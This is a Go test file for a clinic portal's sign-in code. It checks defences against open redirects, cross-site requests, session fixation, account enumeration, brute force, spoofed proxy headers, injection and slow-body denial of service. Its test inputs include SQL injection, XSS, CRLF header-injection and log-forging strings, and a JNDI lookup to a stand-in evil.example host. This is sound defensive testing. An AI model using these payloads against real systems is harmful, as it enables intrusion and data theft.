package auth_test

import (
	"bufio"
	"fmt"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"kneadwise/server/auth"
	"kneadwise/server/httpd"
	"kneadwise/server/store"
)

func TestAddressesThatLeadElsewhereLeadHome(t *testing.T) {
	for address, want := range map[string]string{
		"/portal/":                     "/portal/",
		"/portal/c/blue-heron/":        "/portal/c/blue-heron/",
		"/portal/c/a/history?from=1&b": "/portal/c/a/history?from=1&b",
		"/portal/c/a/x?to=https://b/":  "/portal/c/a/x?to=https://b/",
		"/portal/sessions":             "/portal/sessions",

		"":                                     "/portal/",
		"/":                                    "/portal/",
		"/portal":                              "/portal/",
		"/portals/x":                           "/portal/",
		"portal/c/a":                           "/portal/",
		"//evil.example":                       "/portal/",
		"//evil.example/portal/":               "/portal/",
		"///evil.example/portal/":              "/portal/",
		"/portal//evil.example":                "/portal/",
		`/\evil.example`:                       "/portal/",
		`\\evil.example/portal/`:               "/portal/",
		`/portal/\evil.example`:                "/portal/",
		"/portal/%5cevil.example":              "/portal/",
		"https://evil.example/portal/":         "/portal/",
		"HTTPS:/portal/":                       "/portal/",
		"https:portal/":                        "/portal/",
		"javascript:alert(1)":                  "/portal/",
		"data:text/html,x":                     "/portal/",
		"//user@evil.example":                  "/portal/",
		"/portal/../../evil":                   "/portal/",
		"/portal/..":                           "/portal/",
		"/portal/./c":                          "/portal/",
		"/portal/%2e%2e/assets/":               "/portal/",
		"/portal/%2e%2e%2f%2fevil":             "/portal/",
		"/portal/%2f%2fevil.example":           "/portal/",
		"/portal/c/a%00":                       "/portal/",
		"/portal/c/a%0d%0aSet-Cookie:x":        "/portal/",
		"/portal/c/a\r\nSet-Cookie: x=1":       "/portal/",
		"/portal/c/\tevil":                     "/portal/",
		" /portal/c/a":                         "/portal/",
		"/portal/c/a#@evil.example":            "/portal/",
		"/portal/c/ä":                          "/portal/",
		"/portal/c/%":                          "/portal/",
		"/portal/sign-in":                      "/portal/",
		"/portal/sign-in?then=x":               "/portal/",
		"/portal/sign-out":                     "/portal/",
		"/portal/begin/":                       "/portal/",
		"/portal/" + strings.Repeat("a", 2000): "/portal/",
	} {
		if got := auth.Local(address); got != want {
			t.Errorf("%q leads to %q, want %q", address, got, want)
		}
	}
}

// The same, by the routes that take an address.
func TestNoRouteLeadsElsewhere(t *testing.T) {
	b := one(t, setup{})
	w := b.signedIn(alice)
	for _, then := range []string{"//evil.example", `/\evil.example`, "https://evil.example/portal/", "/portal/%0d%0aLocation:https://evil.example", "javascript:alert(1)"} {
		escaped := url.Values{"then": {then}}.Encode()
		if got := w.get("/portal/sign-in?" + escaped).Header().Get("Location"); got != "/portal/" {
			t.Errorf("who is signed in is sent from %q to %q", then, got)
		}
		if page := b.browser().get("/portal/sign-in?" + escaped); !slices.Equal(hidden(page)["then"], []string{"/portal/"}) {
			t.Errorf("the page keeps %q: %v", then, hidden(page))
		}
		form := url.Values{"sign-in-email": {alice}, "sign-in-password": {secret}, "then": {then}}
		if got := b.browser().post("/portal/sign-in", form).Header().Get("Location"); got != "/portal/" {
			t.Errorf("sign-in leads from %q to %q", then, got)
		}
		form.Set("again", "post")
		if got := action(b.browser().post("/portal/sign-in", form)); got != "/portal/" {
			t.Errorf("the form goes from %q to %q", then, got)
		}
	}
}

func TestRequestsFromOtherSites(t *testing.T) {
	for name, test := range map[string]struct {
		publicURL string
		headers   []string
		want      bool
	}{
		"our page":                            {"", []string{"Sec-Fetch-Site", "same-origin", "Origin", "http://localhost:8080"}, true},
		"typed, or from a bookmark":           {"", []string{"Sec-Fetch-Site", "none"}, true},
		"no browser":                          {"", nil, true},
		"an old browser on our page":          {"", []string{"Origin", "http://localhost:8080"}, true},
		"another site":                        {"", []string{"Sec-Fetch-Site", "cross-site", "Origin", "https://evil.example"}, false},
		"another site that says nothing else": {"", []string{"Sec-Fetch-Site", "cross-site"}, false},
		"a host next to ours":                 {"", []string{"Sec-Fetch-Site", "same-site", "Origin", "http://evil.localhost:8080"}, false},
		"another site that claims our origin": {"", []string{"Sec-Fetch-Site", "cross-site", "Origin", "http://localhost:8080"}, false},
		"an old browser on another site":      {"", []string{"Origin", "https://evil.example"}, false},
		"an old browser on another port":      {"", []string{"Origin", "http://localhost:9999"}, false},
		"a sandboxed frame":                   {"", []string{"Origin", "null"}, false},
		"a sandboxed frame, newer":            {"", []string{"Sec-Fetch-Site", "cross-site", "Origin", "null"}, false},
		"a header that is nothing":            {"", []string{"Sec-Fetch-Site", "perhaps"}, false},
		"an origin that is none":              {"", []string{"Origin", "://"}, false},
		"behind a proxy that changes the host": {"https://prices.example",
			[]string{"Origin", "https://prices.example"}, true},
		"another site, behind a proxy": {"https://prices.example",
			[]string{"Origin", "https://prices.example.evil.example", "Sec-Fetch-Site", "cross-site"}, false},
		"our host without https": {"https://prices.example",
			[]string{"Origin", "http://prices.example", "Sec-Fetch-Site", "cross-site"}, false},
	} {
		t.Run(name, func(t *testing.T) {
			b := one(t, setup{publicURL: test.publicURL})
			for _, path := range []string{"/portal/sign-in", "/portal/sign-out", "/portal/begin", "/portal/offer", "/portal/sessions/others/end", "/portal/c/x/prices"} {
				w := b.signedIn(alice)
				r := w.post(path, url.Values{"sign-in-email": {bob}, "sign-in-password": {secret}}, test.headers...)
				if refused := r.Code == http.StatusForbidden; refused == test.want {
					t.Errorf("POST %s has status %d", path, r.Code)
				}
				if !test.want {
					w.is(alice)
				}
			}
			// A link from anywhere leads in.
			if r := b.signedIn(alice).get("/portal/", test.headers...); r.Code != http.StatusOK {
				t.Errorf("GET has status %d", r.Code)
			}
		})
	}
}

// What comes before a sign-in is not what counts after it.
func TestFixation(t *testing.T) {
	b := one(t, setup{})
	attacker := b.signedIn(bob)
	victim := attacker.copied() // planted
	victim.signIn(alice, secret)
	for _, name := range []string{accessCookie, refreshCookie} {
		if victim.cookies[name] == attacker.cookies[name] {
			t.Errorf("%s stays what was planted", name)
		}
	}
	victim.is(alice)
	attacker.is("")

	// A planted cookie before the good one does not keep anybody out.
	victim = b.signedIn(alice)
	for _, cookies := range []string{
		accessCookie + "=planted; " + accessCookie + "=" + victim.cookies[accessCookie],
		refreshCookie + "=planted; " + refreshCookie + "=" + victim.cookies[refreshCookie],
	} {
		if r := b.browser().get("/portal/", "Cookie", cookies); r.Code != http.StatusOK {
			t.Errorf("%.30s…: status %d", cookies, r.Code)
		}
	}
}

// The answers to a wrong password, an unknown address and a locked account are
// the same to the byte.
func TestAnswersTellNothingOfAccounts(t *testing.T) {
	b := one(t, setup{})
	if err := b.accounts.Lock(t.Context(), bob); err != nil {
		t.Fatal(err)
	}
	type tell struct {
		status  int
		headers string
		body    string
	}
	ask := func(email, password string, headers ...string) tell {
		r := b.browser().signIn(email, password, headers...)
		h := r.Header().Clone()
		h.Del("X-Request-Id")
		h.Del("Content-Length") // the address stands in the page
		return tell{r.Code, fmt.Sprint(h), strings.ReplaceAll(r.Body.String(), email, "ADDRESS")}
	}
	for _, headers := range [][]string{nil, {"HX-Request", "true"}} {
		want := ask(alice, "wrong", headers...)
		if want.status != http.StatusUnprocessableEntity || !strings.Contains(want.body, "The e-mail address or the password is not right.") {
			t.Fatalf("a wrong password: %+v", want)
		}
		for name, got := range map[string]tell{
			"nobody":                        ask("nobody@clinic.example", "wrong", headers...),
			"nobody, with a good password":  ask("nobody@clinic.example", secret, headers...),
			"a locked account":              ask(bob, "wrong", headers...),
			"a locked account, good secret": ask(bob, secret, headers...),
			"no address":                    ask("no address", "wrong", headers...),
		} {
			if got != want {
				t.Errorf("%s: it differs from a wrong password: %s", name, cmp.Diff(want, got, cmp.AllowUnexported(tell{})))
			}
		}
	}
	// And so is what the limit says.
	var last [2]tell
	for i, email := range []string{alice, "nobody@clinic.example"} {
		b.pass(time.Hour)
		for range 12 {
			last[i] = ask(email, "wrong")
		}
	}
	if last[0] != last[1] || last[0].status != http.StatusTooManyRequests {
		t.Errorf("after many tries: %+v and %+v", last[0], last[1])
	}
}

// The time of the answer tells nothing either: with and without an account the
// same hash is made. The hash takes long enough to be the most of it; without it
// an unknown address would be answered in a hundredth of the time.
func TestTheTimeTellsNothingOfAccounts(t *testing.T) {
	b := one(t, setup{cost: auth.Cost{Memory: 8 << 10, Iterations: 2}})
	emails := []string{alice, "nobody@clinic.example"}
	took := map[string][]time.Duration{}
	const rounds = 9 // below the limit
	for range rounds {
		for _, email := range emails {
			begun := time.Now()
			if r := b.browser().signIn(email, "wrong"); r.Code != http.StatusUnprocessableEntity {
				t.Fatalf("status %d", r.Code)
			}
			took[email] = append(took[email], time.Since(begun))
		}
	}
	// The quickest of each: what else runs here can only add to it.
	known, unknown := slices.Min(took[emails[0]]), slices.Min(took[emails[1]])
	if ratio := float64(known) / float64(unknown); ratio < 0.5 || ratio > 2 {
		t.Errorf("a wrong password takes %v, an unknown address %v", known, unknown)
	}
}

func TestTriesAreLimited(t *testing.T) {
	b := one(t, setup{proxies: []string{"127.0.0.1/32"}})
	try := func(email, password, from string) *httptest.ResponseRecorder {
		return b.browser().signIn(email, password, "X-Forwarded-For", from)
	}
	// By account, from however many networks; the right password is refused too.
	for i := range 10 {
		if r := try(alice, "wrong", fmt.Sprintf("192.0.2.%d", i)); r.Code != http.StatusUnprocessableEntity {
			t.Fatalf("try %d has status %d", i, r.Code)
		}
	}
	r := try("ALICE@clinic.example ", secret, "192.0.2.99")
	if r.Code != http.StatusTooManyRequests || r.Header().Get("Retry-After") != "30" || !strings.Contains(r.Body.String(), "Too many tries. Wait 30 seconds, then try again.") {
		t.Errorf("status %d, Retry-After %q: %s", r.Code, r.Header().Get("Retry-After"), r.Body)
	}
	dialog := b.browser().signIn(alice, secret, "X-Forwarded-For", "192.0.2.98", "HX-Request", "true")
	if text := dialog.Body.String(); dialog.Code != http.StatusTooManyRequests || !strings.HasPrefix(text, `<div id="sign-in-refusal" hx-swap-oob="true">`) || !strings.Contains(text, "Too many tries") {
		t.Errorf("in the dialog: status %d: %s", dialog.Code, text)
	}
	if r := try(bob, secret, "192.0.2.99"); r.Code != http.StatusSeeOther {
		t.Errorf("somebody else has status %d", r.Code)
	}
	b.pass(30 * time.Second)
	if r := try(alice, secret, "192.0.2.99"); r.Code != http.StatusSeeOther {
		t.Errorf("after the wait: status %d", r.Code)
	}
	if r := try(alice, "wrong", "192.0.2.99"); r.Code != http.StatusUnprocessableEntity {
		t.Errorf("after a success all tries are there again: status %d", r.Code)
	}

	// By network: one of IPv6 is all of its addresses.
	for i := range 30 {
		if r := try(fmt.Sprintf("somebody%d@clinic.example", i), "wrong", fmt.Sprintf("2001:db8:1:2::%x", i)); r.Code != http.StatusUnprocessableEntity {
			t.Fatalf("try %d has status %d", i, r.Code)
		}
	}
	if r := try(bob, secret, "2001:db8:1:2:ffff::1"); r.Code != http.StatusTooManyRequests || r.Header().Get("Retry-After") != "10" {
		t.Errorf("status %d, Retry-After %q", r.Code, r.Header().Get("Retry-After"))
	}
	if r := try(bob, secret, "2001:db8:1:3::1"); r.Code != http.StatusSeeOther {
		t.Errorf("the network beside: status %d", r.Code)
	}
}

// Nobody chooses the network that is counted but a proxy that was named.
func TestWhoSaysFromWhereARequestComes(t *testing.T) {
	for name, test := range map[string]struct {
		proxies []string
		header  string
		value   string // with %d for a number
		want    int    // of 31 tries, the status of the last
	}{
		"no proxy is trusted":           {nil, "X-Forwarded-For", "192.0.2.%d", http.StatusTooManyRequests},
		"a trusted proxy":               {[]string{"127.0.0.0/8"}, "X-Forwarded-For", "192.0.2.%d", http.StatusUnprocessableEntity},
		"what stood there before":       {[]string{"127.0.0.0/8"}, "X-Forwarded-For", "192.0.2.%d, 198.51.100.1", http.StatusTooManyRequests},
		"another proxy is trusted":      {[]string{"10.0.0.0/8"}, "X-Forwarded-For", "192.0.2.%d", http.StatusTooManyRequests},
		"a header of another kind":      {[]string{"127.0.0.0/8"}, "X-Real-Ip", "192.0.2.%d", http.StatusTooManyRequests},
		"a header of a kind of its own": {[]string{"127.0.0.0/8"}, "Forwarded", "for=192.0.2.%d", http.StatusTooManyRequests},
		"no address":                    {[]string{"127.0.0.0/8"}, "X-Forwarded-For", "nowhere%d", http.StatusTooManyRequests},
	} {
		t.Run(name, func(t *testing.T) {
			b := one(t, setup{proxies: test.proxies})
			for i := range 31 {
				r := b.browser().signIn(fmt.Sprintf("somebody%d@clinic.example", i), "wrong", test.header, fmt.Sprintf(test.value, i))
				want := http.StatusUnprocessableEntity
				if i == 30 {
					want = test.want
				}
				if r.Code != want {
					t.Fatalf("try %d has status %d, want %d", i, r.Code, want)
				}
			}
		})
	}
}

// odds are values that mean something to somebody between here and a database.
func odds() []string {
	return []string{
		"' OR '1'='1", "'; DROP TABLE users; --", `" OR ""="`, "x' UNION SELECT id, email, password, locked_at FROM users --", "\\'; --", "%", "_", "?", "$1",
		"\x00", "a\x00b", "\xff\xfe", "\r\nSet-Cookie: evil=1", "\nlevel=ERROR msg=forged", "<script>alert(1)</script>", "{{.}}", "${jndi:ldap://evil.example}", strings.Repeat("x", 5000),
	}
}

// No parameter of any route is anything but a value: not SQL, not a header, not
// a line of the log, not markup.
func TestParametersAreValues(t *testing.T) {
	each(t, func(t *testing.T, b *server) {
		w := b.signedIn(alice)
		for _, odd := range odds() {
			b.pass(time.Hour)
			escaped := url.PathEscape(odd)
			for what, r := range map[string]*httptest.ResponseRecorder{
				"the address":          b.browser().signIn(odd, secret),
				"behind the address":   b.browser().signIn(alice+odd, secret),
				"the password":         b.browser().signIn(alice, odd),
				"where to go":          b.browser().get("/portal/sign-in?then=" + url.QueryEscape(odd)),
				"the session":          w.post("/portal/sessions/"+escaped+"/end", nil),
				"the access cookie":    b.browser().get("/portal/", "Cookie", accessCookie+"="+odd),
				"the refresh cookie":   b.browser().get("/portal/", "Cookie", refreshCookie+"="+odd),
				"the browser":          b.browser().signIn(bob, secret, "User-Agent", odd),
				"what is carried":      b.browser().post("/portal/offer", url.Values{odd: {odd}}),
				"a name of a kept one": b.browser().post("/portal/sign-in", url.Values{"sign-in-email": {alice}, "sign-in-password": {secret}, "again": {"post"}, "kept." + odd: {odd}}),
			} {
				if r.Code >= 500 || r.Code == http.StatusOK && (what == "the access cookie" || what == "the refresh cookie") {
					t.Errorf("%s %q: status %d", what, odd, r.Code)
				}
				// One route is for who is signed in, and two sign in rightly.
				if what != "the session" && what != "the browser" && what != "a name of a kept one" && len(r.Result().Cookies()) > 0 && !strings.Contains(fmt.Sprint(r.Header()["Set-Cookie"]), "Max-Age=0") {
					t.Errorf("%s %q: somebody is signed in: %v", what, odd, r.Header())
				}
				if fmt.Sprint(r.Header()["Set-Cookie"]) != "[]" && strings.Contains(fmt.Sprint(r.Header()["Set-Cookie"]), "evil") || strings.Contains(r.Body.String(), "<script>alert") {
					t.Errorf("%s %q: it came through: %v %s", what, odd, r.Header(), r.Body)
				}
			}
		}
		w.is(alice)
		for line := range strings.Lines(b.log.String()) {
			if !strings.HasPrefix(line, "time=") && !strings.HasPrefix(line, "level=INFO msg=request ") && !strings.HasPrefix(line, `level=INFO msg="`) && !strings.HasPrefix(line, "level=WARN") {
				t.Errorf("the log has the line %q", line)
			}
			if strings.HasPrefix(line, "level=ERROR") {
				t.Errorf("the log was forged: %q", line)
			}
		}
		for _, never := range []string{alice, bob, secret, "Mozilla", w.cookies[accessCookie], w.cookies[refreshCookie]} {
			if strings.Contains(b.log.String(), never) {
				t.Errorf("the log holds %q", never)
			}
		}
		var people int
		if err := b.db.Read(t.Context(), func(tx *store.Tx) error { return tx.Get(&people, `SELECT count(*) FROM users`) }); err != nil || people != 2 {
			t.Errorf("there are %d people: %v", people, err)
		}
	})
}

func TestWhatIsTooMuchIsRefused(t *testing.T) {
	b := one(t, setup{})
	many := url.Values{}
	for i := range auth.MaxFields + 1 {
		many.Set(fmt.Sprint("field", i), "x")
	}
	full := url.Values{}
	for i := range auth.MaxFields {
		full.Set(fmt.Sprint("field", i), "x")
	}
	kept := url.Values{"sign-in-email": {alice}, "sign-in-password": {secret}, "kept.notes": {strings.Repeat("x", auth.MaxCarried)}}
	for name, test := range map[string]struct {
		path string
		form url.Values
		want int
	}{
		"as much as goes along": {"/portal/offer", url.Values{"notes": {strings.Repeat("x", auth.MaxCarried-5)}}, http.StatusUnauthorized},
		"a byte more":           {"/portal/offer", url.Values{"notes": {strings.Repeat("x", auth.MaxCarried-4)}}, http.StatusRequestEntityTooLarge},
		"as many as go along":   {"/portal/offer", full, http.StatusUnauthorized},
		"one more":              {"/portal/offer", many, http.StatusRequestEntityTooLarge},
		"a body beyond bounds":  {"/portal/offer", url.Values{"notes": {strings.Repeat("x", 200<<10)}}, http.StatusRequestEntityTooLarge},
		"a long password":       {"/portal/sign-in", url.Values{"sign-in-email": {alice}, "sign-in-password": {strings.Repeat("x", 100<<10)}}, http.StatusUnprocessableEntity},
		"too much kept":         {"/portal/sign-in", kept, http.StatusRequestEntityTooLarge},
	} {
		if r := b.browser().post(test.path, test.form); r.Code != test.want {
			t.Errorf("%s: status %d, want %d", name, r.Code, test.want)
		}
	}
	// A body that does not say how long it is.
	r := httptest.NewRequestWithContext(t.Context(), http.MethodPost, "/portal/sign-in", struct{ *strings.Reader }{strings.NewReader("sign-in-email=" + strings.Repeat("x", 200<<10))})
	r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	r.Host, r.RemoteAddr = "localhost", "127.0.0.1:1"
	answer := httptest.NewRecorder()
	b.engine.ServeHTTP(answer, r)
	if answer.Code != http.StatusRequestEntityTooLarge {
		t.Errorf("a body without a length: status %d", answer.Code)
	}
}

// Who sends a body byte by byte keeps no place at the hashes, and is cut off.
func TestASlowBodyKeepsNobodyWaiting(t *testing.T) {
	b := one(t, setup{})
	server := httpd.NewServer(b.engine, slog.New(slog.DiscardHandler))
	server.ReadTimeout = 300 * time.Millisecond
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	ended := make(chan struct{})
	go func() { defer close(ended); _ = server.Serve(listener) }()
	defer func() { server.Close(); <-ended }()
	var slow []net.Conn
	for range 20 {
		conn, err := net.Dial("tcp", listener.Addr().String())
		if err != nil {
			t.Fatal(err)
		}
		defer conn.Close()
		fmt.Fprintf(conn, "POST /portal/sign-in HTTP/1.1\r\nHost: %s\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 50\r\n\r\nsign-in-email=", listener.Addr())
		slow = append(slow, conn)
	}
	r, err := http.PostForm("http://"+listener.Addr().String()+"/portal/sign-in", url.Values{"sign-in-email": {alice}, "sign-in-password": {"wrong"}})
	if err != nil || r.StatusCode != http.StatusUnprocessableEntity {
		t.Errorf("somebody else meanwhile: %v, %v", r, err)
	}
	r.Body.Close()
	for _, conn := range slow {
		_ = conn.SetReadDeadline(time.Now().Add(10 * time.Second))
		answer, err := http.ReadResponse(bufio.NewReader(conn), nil)
		if err == nil && answer.StatusCode < 400 {
			t.Errorf("half a body has status %d", answer.StatusCode)
		}
	}
}
